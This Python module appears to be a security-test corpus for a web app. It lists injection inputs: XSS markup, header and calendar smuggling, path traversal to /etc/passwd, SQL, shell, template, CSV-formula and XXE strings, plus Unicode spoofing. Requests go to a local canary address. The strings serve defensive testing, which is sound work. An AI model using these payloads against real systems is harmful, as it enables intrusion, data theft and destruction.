"""What guests may write where a name or a note is asked for, to make a page, a mail or a program do something.

`CANARY` stands for an address whose requests are counted; a script that runs calls `mmhit()`.
"""

from collections.abc import Iterable

CANARY = "http://127.0.0.1:9"

# fmt: off
MARKUP = [
	"<script>mmhit()</script>", "<SCRIPT>mmhit()</SCRIPT>", "<script src=CANARY/a.js></script>", "<img src=x onerror=mmhit()>",
	"<img src=CANARY/a.png>", "<svg onload=mmhit()>", "<svg/onload=mmhit()>", "<svg><script>mmhit()</script></svg>",
	"<body onload=mmhit()>", "<iframe src=javascript:mmhit()>", "<iframe srcdoc='<script>parent.mmhit()</script>'>",
	"<details open ontoggle=mmhit()>", "<video><source onerror=mmhit()>", "<audio src=x onerror=mmhit()>",
	"<input autofocus onfocus=mmhit()>", "<select autofocus onfocus=mmhit()>", "<textarea autofocus onfocus=mmhit()>",
	"<marquee onstart=mmhit()>", "<a href=javascript:mmhit()>x</a>", "<a href='data:text/html,<script>mmhit()</script>'>x</a>",
	"<math><mtext><img src=x onerror=mmhit()>", "<object data=javascript:mmhit()>", "<embed src=javascript:mmhit()>",
	"<form action=javascript:mmhit()><button>x</button></form>", "<button formaction=javascript:mmhit()>x</button>",
	"<meta http-equiv=refresh content='0;url=CANARY/'>", "<base href=CANARY/>", "<link rel=stylesheet href=CANARY/a.css>",
	"<link rel=prefetch href=CANARY/p>", "<style>@import 'CANARY/b.css';</style>", "<style>*{background:url(CANARY/c)}</style>",
	"<div style=\"background:url(CANARY/d)\">x</div>", "<p style='animation-name:x' onanimationstart=mmhit()>",
	"<b>bold</b>", "<i>x", "</td></tr></table>", "</div></div></div>", "<table><tr><td>", "<!-- open", "-->", "<!--recipient-->",
	"<!--unsubscribe_url-->", "<!--email_open_check-->", "<![CDATA[<script>mmhit()</script>]]>", "<?php echo 1 ?>", "<%= 7*7 %>",
	"<scr<script>ipt>mmhit()</scr</script>ipt>", "<<script>mmhit()//<</script>", "<img src=x\nonerror\n=\nmmhit()>",
	"<img/src=x/onerror=mmhit()>", "<img src=`x` onerror=mmhit()>", "<x onclick=mmhit() autofocus tabindex=1 onfocus=mmhit()>",
	"<template><script>mmhit()</script></template>", "<noscript><p title='</noscript><img src=x onerror=mmhit()>'>",
	"<title><img src=x onerror=mmhit()></title>", "<xmp><img src=x onerror=mmhit()></xmp>", "<isindex action=javascript:mmhit()>",
	"<font color=red>x</font>", "<h1>Your account is closed</h1>", "<center>", "<plaintext>", "<wbr>", "< script >mmhit()</ script >",
]
BREAKING_OUT = [
	'"><script>mmhit()</script>', "'><script>mmhit()</script>", '" onmouseover="mmhit()', "' onmouseover='mmhit()",
	'" autofocus onfocus="mmhit()', "' autofocus onfocus='mmhit()", '"/><img src=x onerror=mmhit()>', "</textarea><script>mmhit()</script>",
	"</title><script>mmhit()</script>", "</script><script>mmhit()</script>", "</style><script>mmhit()</script>", "';mmhit();//",
	'";mmhit();//', "\\';mmhit();//", '\\";mmhit();//', "`;mmhit();//", "${mmhit()}", "`${mmhit()}`", "*/mmhit()/*", "javascript:mmhit()",
	"JaVaScRiPt:mmhit()", "java\tscript:mmhit()", "javascript&colon;mmhit()", "data:text/html,<script>mmhit()</script>",
	"vbscript:mmhit()", "x' onerror=mmhit() y='", "--!><img src=x onerror=mmhit()>", "]]><img src=x onerror=mmhit()>",
	"\\u003cscript\\u003emmhit()\\u003c/script\\u003e", "\\x3cscript\\x3emmhit()",
	"%3Cscript%3Emmhit()%3C/script%3E", "%253Cscript%253E", "&lt;script&gt;mmhit()&lt;/script&gt;", "&#60;script&#62;mmhit()&#60;/script&#62;",
	"&#x3c;img src=x onerror=mmhit()&#x3e;", "&amp;lt;script&amp;gt;", "&lt;img src=x onerror=mmhit()&gt;", "＜script＞mmhit()＜/script＞",
	"\uff1cimg src=x onerror=mmhit()\uff1e", "ʺ onfocus=mmhit() autofocus ʺ", "+ADw-script+AD4-mmhit()+ADw-/script+AD4-",
]
QUOTED = [
	'"a quoted name"', '"<img src=x onerror=mmhit()>"', '["<img src=x onerror=mmhit()>"]', '{"a": "<script>mmhit()</script>"}',
	'"\\u003cimg src=x onerror=mmhit()\\u003e"', "null", "true", "0", "[]", "{}", '""', '"', "'", "''", "[1,2]", '{"__proto__": {"x": 1}}',
	'["like", "%"]', '{"$gt": ""}', "constructor", "__proto__", "__class__", "[object Object]", "undefined", "NaN", "Infinity",
	"1e309", "None", "\\", "\\\\", "\\n", "\\0", "\\r\\nBcc: b@example.org",
]
FILES = [
	"embed='private/files/x'", 'embed="private/files/x"', "embed=&#39;site_config.json&#39;", "embed=&quot;site_config.json&quot;",
	"embed='SITE/site_config.json'", 'embed="SITE/site_config.json"', "<img embed='SITE/site_config.json'>", "x embed=",
	"&#101;mbed='SITE/site_config.json'", "embed&#61;'SITE/site_config.json'", "embed\u00ad='SITE/site_config.json'",
	"EMBED='SITE/site_config.json'", "embed ='SITE/site_config.json'", "cid:logo", "../../../etc/passwd", "/etc/passwd", "..\\..\\win.ini",
	"file:///etc/passwd", "....//....//etc/passwd", "%2e%2e%2f", "/private/files/x", "/files/../site_config.json", "php://filter/x",
	"{% include '/etc/passwd' %}", "CANARY/x.png", "![x](CANARY/x.png)", "[click](javascript:mmhit())", "<CANARY/x>", "url(CANARY/y)",
]
LINES = [
	"x\r\nBcc: b@example.org", "x\nBcc: b@example.org", "x\rBcc: b@example.org", "x\r\n\r\n<script>mmhit()</script>", "x%0d%0aBcc: b@example.org",
	"x\u2028Bcc: b@example.org", "x\u2029Bcc: b@example.org", "x\x85Bcc: b@example.org", "x\x0bBcc: b@example.org", "x\x0cBcc: b@example.org",
	"x\r\nContent-Type: text/html\r\n\r\n<b>", "x\n.\nMAIL FROM:<a@example.org>", "\r\nATTENDEE:mailto:b@example.org", "\nATTENDEE:mailto:b@example.org",
	"x\nEND:VEVENT\nBEGIN:VEVENT", "\nBEGIN:VALARM\nACTION:PROCEDURE\nEND:VALARM", "\nATTACH:CANARY/x.exe", "x;CN=b:mailto:b@example.org",
	'";CN="b', "x\\nATTENDEE:mailto:b@example.org", "x:y;z=\"q\"", "METHOD:CANCEL", "\tATTENDEE:mailto:b@example.org", "--===============x==",
	"\n--===============x==\nContent-Type: text/html\n\n<b>x</b>", "=?utf-8?q?=0d=0aBcc=3a_b=40example=2eorg?=", "=?utf-8?b?PGI+eDwvYj4=?=",
	"=0D=0ABcc: b@example.org", "x\n\nReschedule: CANARY/x", "Cancel: CANARY/x", "\n> quoted\n-- \nsignature", "From here", "\nFrom here\n.\n",
]
ADDRESSES = [
	"a@example.com, b@example.org", "a@example.com,b@example.org", "a@example.com;b@example.org", "a@example.com b@example.org",
	"Alex <b@example.org>", "<b@example.org>", "b@example.org\r\nBcc: c@example.org", "a@example.com%0ab@example.org", "a@example.com\0",
	'"a@b"@example.com', "a(b@example.org)@example.com", "@example.org:a@example.com", "a@example.com?bcc=b@example.org", "mailto:b@example.org",
	"undisclosed-recipients:;", "group: b@example.org;", "a%example.org@example.com", "a!b@example.com", "a@[127.0.0.1]", "a@example.com.",
	"Smith, John", "O'Brien", "Alex, Chris & Kim",
]
DIRECTIONS = [
	"\u202egnp.exe", "abc\u202edef\u202c", "\u202dabc", "\u2066abc\u2069", "\u2067abc", "\u200fabc", "\u200eabc", "\u061cabc", "a\u200bb", "a\u200cb",
	"a\u200db", "a\u2060b", "\ufeffabc", "a\u00adb", "\u3164", "\u2800", "\u115f", "\U000e0041\U000e0042", "\ufff9a\ufffab\ufffb", "\ue000", "\U000f0000",
	"a\u0301\u0301\u0301\u0301\u0301", "Z\u0351\u036b\u0343a\u0363\u0369l\u0348g\u033ao", "שלום", "مرحبا", "\u05d0<b>\u05d1", "аdmin", "ＡＬＥＸ", "𝐀𝐥𝐞𝐱",
	"\0abc", "a\0b", "\x1b[31mred", "\x7f", "\x80", "\ufdd0", "\ufffe", "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\U0001f3f4\U000e0067\U000e007f",
]
PROGRAMS = [
	"{{7*7}}", "{{ frappe.db.sql('select 1') }}", "{% for x in (1,2) %}x{% endfor %}", "{{ ''.__class__.__mro__ }}", "{# hidden #}", "${7*7}", "#{7*7}",
	"<%=7*7%>", "{{constructor.constructor('mmhit()')()}}", "{{{{7*7}}}}", "{0}", "{0.__class__}", "{mail}", "%s", "%(name)s", "%n%n", "%d", "$HOME",
	"$(id)", "`id`", "; ls", "| cat /etc/passwd", "&& id", "#!/bin/sh", "' OR '1'='1", "' OR 1=1 -- ", '" OR ""="', "'; DROP TABLE `tabUser`; --",
	"1; SELECT SLEEP(5)", "' UNION SELECT password FROM __Auth -- ", "x') OR ('1'='1", "\\'; --", "/*!50000 x*/", "admin'--", "%", "_", "%' --",
	"=1+1", "=cmd|'/C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "=HYPERLINK(\"CANARY/x\")", "=IMPORTXML(\"CANARY/x\",\"//a\")", "\t=1+1", "*)(uid=*", "(&(x=*))",
	"__import__('os').system('id')", "exec('1')", "eval(mmhit())", "System.exit(0)", "!!python/object/apply:os.system", "&x *x", "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
]
# fmt: on
CORPUS = {
	"markup": MARKUP,
	"breaking out": BREAKING_OUT,
	"quoted": QUOTED,
	"files": FILES,
	"lines": LINES,
	"addresses": ADDRESSES,
	"directions": DIRECTIONS,
	"programs": PROGRAMS,
}


def payloads(site: str, canary: str = CANARY, kinds: Iterable[str] = tuple(CORPUS)) -> list[str]:
	texts = (text for kind in kinds for text in CORPUS[kind])
	return [text.replace("CANARY", canary).replace("SITE", site) for text in texts]
